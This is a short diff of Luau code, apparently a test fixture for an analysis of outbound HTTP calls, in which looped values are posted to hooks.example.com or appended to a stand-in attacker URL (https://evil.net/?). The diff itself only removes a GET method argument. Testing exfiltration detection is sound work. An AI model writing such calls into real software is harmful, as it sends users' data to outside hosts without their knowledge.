@@ -57,7 +57,7 @@ for _, x in { s, url, p } do
     try(function() return Http:RequestAsync({ Url = x, Body = "b" }) end)
     try(function() return Http:PostAsync("https://hooks.example.com/", x :: any) end)
     try(function() return Http:RequestAsync({ Url = "https://hooks.example.com/", Body = x }) end)
-    try(function() return Http:RequestAsync({ Url = x:AddPrefix("https://evil.net/?"), Method = "GET" }) end)
+    try(function() return Http:RequestAsync({ Url = x:AddPrefix("https://evil.net/?") }) end)
     try(function() return Http:RequestAsync({ Url = x:AddSuffix(":22/"), Method = "GET" }) end)
 end
 return seen
